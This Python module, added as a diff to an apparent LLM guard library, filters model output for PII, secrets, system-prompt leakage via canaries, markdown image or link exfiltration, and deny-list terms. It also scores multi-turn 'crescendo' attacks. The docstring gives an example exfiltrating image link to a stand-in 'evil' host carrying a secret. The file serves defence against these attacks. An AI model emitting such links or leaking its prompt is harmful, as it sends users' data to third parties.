@@ -1,0 +1,260 @@
+"""Output policy for generated text: PII and secrets, system-prompt leakage, link exfiltration, deny lists.
+
+* PII and secrets use the data package's detectors (``bastion.data.detectors``: Luhn-checked cards, SSN,
+  IBAN, national IDs, e-mail, phone, API keys and private keys, …) and are redacted (``[CREDIT_CARD]``) or
+  block the answer, per role;
+* system-prompt leakage: the output contains a canary token planted in the system prompt (ATLAS AML.T0056),
+  or a run of ``leak_words`` consecutive words of the system prompt;
+* markdown image/link exfiltration (``![](https://evil/?q=secret)``; ATLAS AML.T0077): an image or link whose
+  URL carries a query or fragment, or whose host is not allowed, is removed (redact) or blocks the answer;
+* deny lists: configured categories of terms (whole words, case-insensitive) that block the answer;
+* per role: each role may have its own PII action and deny categories (like the gateway's output rules).
+
+:class:`SessionScore` accumulates prompt scores across the turns of a conversation with exponential decay,
+so an attack spread over many mild turns crosses the session threshold (multi-turn "crescendo" attacks).
+"""
+
+from __future__ import annotations
+
+import functools
+import re
+import threading
+import time
+from collections import OrderedDict
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+from typing import Any
+
+from bastion.errors import ConfigError
+
+ACTIONS = ("allow", "redact", "block")
+DEFAULT_ENTITIES = (
+    "CREDIT_CARD",
+    "US_SSN",
+    "IBAN_CODE",
+    "SECRET",
+    "NATIONAL_ID",
+    "PASSPORT",
+    "EMAIL_ADDRESS",
+    "PHONE_NUMBER",
+)
+_LINK = re.compile(r"(!?)\[([^\]\n]{0,200})\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
+_HOST = re.compile(r"^[a-z][a-z0-9+.-]*://([^/?#:@]+(?:@[^/?#:]+)?)", re.IGNORECASE)
+
+
+@dataclass(frozen=True)
+class RolePolicy:
+    pii: str = "redact"
+    deny_categories: tuple[str, ...] = ()
+
+
+@dataclass(frozen=True)
+class PolicyConfig:
+    """The output policy. Unknown actions raise at construction (fail closed)."""
+
+    pii: str = "redact"
+    entities: tuple[str, ...] = DEFAULT_ENTITIES
+    links: str = "redact"  # what to do with an exfiltrating image/link: redact (remove it) or block
+    allowed_link_hosts: tuple[str, ...] = ()
+    deny: Mapping[str, tuple[str, ...]] = field(default_factory=dict)
+    deny_categories: tuple[str, ...] = ()  # categories enforced for every role
+    roles: Mapping[str, RolePolicy] = field(default_factory=dict)
+    leak_words: int = 8
+
+    def __post_init__(self) -> None:
+        for name, action in [("pii", self.pii), ("links", self.links)] + [
+            (f"roles.{r}.pii", p.pii) for r, p in self.roles.items()
+        ]:
+            if action not in ACTIONS:
+                raise ConfigError(f"[guard.output] {name} must be one of {', '.join(ACTIONS)}")
+        unknown = {c for p in self.roles.values() for c in p.deny_categories} | set(self.deny_categories)
+        unknown -= set(self.deny)
+        if unknown:
+            raise ConfigError(f"[guard.output] unknown deny categories: {', '.join(sorted(unknown))}")
+        if self.leak_words < 4:
+            raise ConfigError("[guard.output] leak_words must be at least 4")
+
+    def for_role(self, role: str | None) -> RolePolicy:
+        base = self.roles.get(role or "", RolePolicy(pii=self.pii, deny_categories=()))
+        return RolePolicy(pii=base.pii, deny_categories=tuple({*self.deny_categories, *base.deny_categories}))
+
+
+@dataclass(frozen=True)
+class OutputContext:
+    """What the output is checked against: the caller's role, canaries and the system prompt."""
+
+    role: str | None = None
+    canaries: tuple[str, ...] = ()
+    system_prompt: str | None = None
+
+
+@dataclass(frozen=True)
+class OutputVerdict:
+    """``action`` allow / redact / block; ``text`` is what may be shown (empty when blocked)."""
+
+    action: str
+    text: str
+    findings: tuple[str, ...]
+    atlas: tuple[str, ...]
+    owasp: tuple[str, ...]
+
+    @property
+    def blocked(self) -> bool:
+        return self.action == "block"
+
+    def to_dict(self) -> dict[str, Any]:
+        return {
+            "action": self.action,
+            "findings": list(self.findings),
+            "atlas": list(self.atlas),
+            "owasp": list(self.owasp),
+        }
+
+
+@functools.cache
+def _detectors() -> tuple[Any, ...]:
+    from bastion.data.detectors import all_detectors
+
+    return tuple(all_detectors(use_presidio=False))
+
+
+def _shingles(text: str, n: int) -> set[tuple[str, ...]]:
+    words = re.findall(r"\w+", text.lower())
+    return {tuple(words[i : i + n]) for i in range(len(words) - n + 1)}
+
+
+class OutputPolicy:
+    def __init__(self, config: PolicyConfig | None = None) -> None:
+        self.config = config or PolicyConfig()
+        self._deny = {
+            cat: re.compile(r"\b(?:" + "|".join(re.escape(t) for t in terms) + r")\b", re.IGNORECASE)
+            for cat, terms in self.config.deny.items()
+            if terms
+        }
+        self._prompt_cache: dict[str, set[tuple[str, ...]]] = {}
+
+    def _exfil_links(self, text: str) -> list[re.Match[str]]:
+        bad = []
+        for m in _LINK.finditer(text):
+            url = m.group(3)
+            host_m = _HOST.match(url)
+            host = host_m.group(1).lower() if host_m else ""
+            allowed = host and any(
+                host == h or host.endswith("." + h) for h in self.config.allowed_link_hosts
+            )
+            carries = "?" in url or "#" in url or len(url) > 200
+            if host and (not allowed) and (m.group(1) == "!" or carries):
+                bad.append(m)
+        return bad
+
+    def check(self, text: str, *, context: OutputContext | None = None) -> OutputVerdict:
+        from bastion.data.detectors import detect_text
+
+        ctx = context or OutputContext()
+        rule = self.config.for_role(ctx.role)
+        findings: list[str] = []
+        atlas: list[str] = []
+        owasp: list[str] = []
+        block = False
+        for canary in ctx.canaries:
+            if canary and canary in text:
+                findings.append("canary")
+                block = True
+        if ctx.system_prompt:
+            sp = self._prompt_cache.get(ctx.system_prompt)
+            if sp is None:
+                sp = self._prompt_cache[ctx.system_prompt] = _shingles(
+                    ctx.system_prompt, self.config.leak_words
+                )
+            if sp & _shingles(text, self.config.leak_words):
+                findings.append("system-prompt-overlap")
+                block = True
+        if findings:
+            atlas.append("AML.T0056")
+            owasp.append("LLM07:2025")
+        for cat in rule.deny_categories:
+            pattern = self._deny.get(cat)
+            if pattern is not None and pattern.search(text):
+                findings.append(f"deny:{cat}")
+                block = True
+        out = text
+        links = self._exfil_links(text)
+        if links:
+            findings.append("link-exfiltration")
+            atlas.append("AML.T0077")
+            owasp.append("LLM05:2025")
+            if self.config.links == "block":
+                block = True
+            else:
+                for m in reversed(links):
+                    out = out[: m.start()] + "[link removed]" + out[m.end() :]
+        if rule.pii != "allow":
+            spans = [s for s in detect_text(out, detectors=_detectors()) if s.entity in self.config.entities]
+            if spans:
+                findings += sorted({f"pii:{s.entity}" for s in spans})
+                atlas.append("AML.T0057")
+                owasp.append("LLM02:2025")
+                if rule.pii == "block":
+                    block = True
+                else:
+                    for s in sorted(spans, key=lambda s: s.start, reverse=True):
+                        out = out[: s.start] + f"[{s.entity}]" + out[s.end :]
+        action = "block" if block else "redact" if out != text else "allow"
+        return OutputVerdict(
+            action=action,
+            text="" if block else out,
+            findings=tuple(dict.fromkeys(findings)),
+            atlas=tuple(dict.fromkeys(atlas)),
+            owasp=tuple(dict.fromkeys(owasp)),
+        )
+
+
+def scan_output(
+    text: str, *, context: OutputContext | None = None, policy: OutputPolicy | None = None
+) -> OutputVerdict:
+    """Check generated text against the output policy (the default one when none is given)."""
+    return (policy or OutputPolicy()).check(text, context=context)
+
+
+class SessionScore:
+    """Per-session accumulated prompt score: ``s ← decay·s + score``; flagged when ``s ≥ threshold``.
+
+    In memory, bounded (least recently used sessions are dropped); thread-safe.
+    """
+
+    def __init__(
+        self,
+        *,
+        decay: float = 0.7,
+        threshold: float = 1.2,
+        max_sessions: int = 100_000,
+        now: Any = time.monotonic,
+    ) -> None:
+        if not 0.0 <= decay < 1.0 or threshold <= 0:
+            raise ConfigError("session decay must lie in [0, 1) and the threshold be positive")
+        self.decay, self.threshold, self._max = decay, threshold, max_sessions
+        self._scores: OrderedDict[str, float] = OrderedDict()
+        self._lock = threading.Lock()
+        self._now = now
+
+    def add(self, session: str, score: float) -> tuple[float, bool]:
+        with self._lock:
+            s = self.decay * self._scores.get(session, 0.0) + float(score)
+            self._scores[session] = s
+            self._scores.move_to_end(session)
+            while len(self._scores) > self._max:
+                self._scores.popitem(last=False)
+        return s, s >= self.threshold
+
+
+__all__ = [
+    "ACTIONS",
+    "DEFAULT_ENTITIES",
+    "OutputContext",
+    "OutputPolicy",
+    "OutputVerdict",
+    "PolicyConfig",
+    "RolePolicy",
+    "SessionScore",
+    "scan_output",
+]
